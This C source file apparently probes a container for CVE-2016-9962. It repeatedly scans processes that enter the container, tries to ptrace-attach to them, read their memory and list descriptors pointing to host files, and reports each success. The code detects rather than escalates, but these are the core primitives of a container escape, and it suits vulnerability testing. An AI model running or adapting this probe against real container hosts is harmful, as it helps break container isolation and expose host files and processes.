/* In a container: tries to get hold of every process that comes by and is not of the container's own programs, until /tmp/stop is there.
   Prints what it caught: a process attached to, memory opened, a descriptor that leads to a file of the host. CVE-2016-9962. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

/* Of the container's own programs, or ended: a zombie has no program any more. One whose link may not be read is neither. */
static int own(int pid) {
    char path[64], exe[256] = {0};
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    if (readlink(path, exe, sizeof exe - 1) < 0) return errno == ENOENT || errno == ESRCH;
    return strstr(exe, "busybox") != NULL || strstr(exe, "watcher") != NULL;
}

int main(void) {
    long seen = 0;
    printf("watching\n");
    fflush(stdout);
    do {
        for (int pid = 2; pid < 400; pid++) {
            char path[64], link[256] = {0};
            snprintf(path, sizeof path, "/proc/%d", pid);
            if (pid == getpid() || access(path, F_OK) != 0 || own(pid)) continue;
            seen++;
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                if (!own(pid)) printf("attached to %d\n", pid);
                ptrace(PTRACE_DETACH, pid, 0, 0);
            }
            snprintf(path, sizeof path, "/proc/%d/mem", pid);
            int memory = open(path, O_RDONLY);
            char byte;
            if (memory >= 0 && !own(pid) && pread(memory, &byte, 1, 0x400000) == 1 && !own(pid)) printf("read memory of %d\n", pid);
            if (memory >= 0) close(memory);
            for (int fd = 0; fd < 64; fd++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
                if (readlink(path, link, sizeof link - 1) > 0 && !own(pid)) printf("descriptor %d of %d: %s\n", fd, pid, link);
            }
        }
        while (waitpid(-1, NULL, WNOHANG | __WALL) > 0) continue;
    } while (access("/tmp/stop", F_OK) != 0);
    fprintf(stderr, "seen %ld\n", seen);
    return 0;
}
